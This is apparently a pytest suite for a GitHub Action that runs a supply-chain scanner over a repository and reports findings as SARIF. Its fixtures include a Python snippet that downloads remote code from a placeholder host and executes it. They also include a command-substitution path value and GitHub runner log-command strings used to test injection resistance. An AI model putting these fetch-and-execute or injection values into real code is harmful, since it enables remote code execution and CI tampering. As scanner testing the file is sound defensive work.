"""The GitHub Action's own script, run in a repository of the test's own as the runner would."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import NamedTuple

import pytest
import yaml

from support.command import sekisho
from support.shared import ROOT

ACTION = yaml.safe_load((ROOT / "action.yml").read_text())
STEPS = {step["name"]: step for step in ACTION["runs"]["steps"]}
EVIL = "import requests\nexec(requests.get('https://a.invalid').text)\n"


class Ran(NamedTuple):
    """What the runner saw."""

    status: int
    log: str
    outputs: dict[str, str]


@pytest.fixture
def runner(tmp_path: Path) -> Path:
    """The runner's folders, with this environment's program where the first step would have put it."""
    (tmp_path / "work").mkdir()
    programs = tmp_path / "temp" / "sekisho" / "bin"
    programs.mkdir(parents=True)
    (programs / "sekisho").write_text(f'#!/bin/sh\nexec "{sys.executable}" -P -m sekisho "$@"\n')
    (programs / "sekisho").chmod(0o755)
    return tmp_path


def run(runner: Path, **inputs: str) -> Ran:
    given = {name: each["default"] for name, each in ACTION["inputs"].items()} | inputs
    step, outputs = STEPS["Inspect"], runner / "outputs"
    env = {name: given[value[len("${{ inputs.") : -len(" }}")]] for name, value in step["env"].items()}
    own = os.environ | {"RUNNER_TEMP": str(runner / "temp"), "GITHUB_OUTPUT": str(outputs)} | env
    command = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
    done = subprocess.run(command, cwd=runner / "work", env=own, capture_output=True, text=True, check=False)
    rows = outputs.read_text().splitlines() if outputs.exists() else []
    return Ran(done.returncode, done.stdout + done.stderr, dict(row.split("=", 1) for row in rows))


def test_a_repository_that_blocks_fails_and_its_results_are_there_to_upload(runner: Path) -> None:
    (runner / "work" / "app.py").write_text(EVIL)
    ran = run(runner)
    assert ran.status == 1
    assert "BLOCK" in ran.log
    log = json.loads(Path(ran.outputs["sarif"]).read_text())
    assert log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "app.py"


def test_a_plain_repository_passes_with_empty_results(runner: Path) -> None:
    (runner / "work" / "app.py").write_text("print(1)\n")
    ran = run(runner)
    assert ran.status == 0
    assert json.loads(Path(ran.outputs["sarif"]).read_text())["runs"][0]["results"] == []


def test_it_stops_at_block_and_may_be_made_stricter(runner: Path) -> None:
    (runner / "work" / "build.rs").write_text("fn main() {}\n")
    assert run(runner).status == 0
    assert run(runner, **{"fail-on": "review"}).status == 1
    assert run(runner, **{"fail-on": "never"}).status == 2


def test_a_baseline_from_elsewhere_is_obeyed(runner: Path) -> None:
    (runner / "work" / "app.py").write_text(EVIL)
    assert sekisho("inspect", "baseline", runner / "work", "--out", runner / "mine.json").status == 0
    assert run(runner, baseline=str(runner / "mine.json")).status == 0
    (runner / "work" / "theirs.json").write_bytes((runner / "mine.json").read_bytes())
    assert run(runner, baseline="theirs.json").status == 2


def test_nothing_there_is_no_answer_and_nothing_to_upload(runner: Path) -> None:
    ran = run(runner, path="nowhere")
    assert ran.status == 2
    assert "sarif" not in ran.outputs


@pytest.mark.parametrize("path", ["--help", "serve", "$(touch hacked)", "a b"])
def test_an_odd_path_is_a_path(runner: Path, path: str) -> None:
    (runner / "work" / path).mkdir()
    (runner / "work" / path / "app.py").write_text(EVIL)
    ran = run(runner, path=path)
    assert ran.status == 1
    assert "app.py:2" in ran.log
    assert not (runner / "work" / "hacked").exists()


def test_a_strangers_text_is_no_command_of_the_log(runner: Path) -> None:
    """A runner takes lines that begin with `::` for commands, after any spaces, unless it was told to stop."""
    (runner / "work" / "::add-path::.").mkdir()
    (runner / "work" / "::add-path::." / "setup.py").write_text(EVIL + "# ::set-output name=x::y\n##[add-path]/\n")
    lines = [line.strip() for line in run(runner).log.splitlines()]
    first = next(at for at, line in enumerate(lines) if line.startswith("::"))
    assert lines[first].startswith("::stop-commands::")
    token = lines[first].removeprefix("::stop-commands::")
    assert len(token) == 32
    assert lines.index(f"::{token}::") == len(lines) - 1
    assert any(line.startswith("::add-path::") for line in lines[first + 1 : -1])  # it is there, and means nothing


def test_the_results_are_uploaded_by_an_action_that_is_pinned() -> None:
    step = STEPS["Upload"]
    name, _, revision = step["uses"].partition("@")
    assert name == "github/codeql-action/upload-sarif"
    assert len(revision) == 40
    assert "always()" in step["if"]


def test_no_input_is_pasted_into_a_script() -> None:
    assert not any("${{" in step["run"] for step in STEPS.values() if "run" in step)
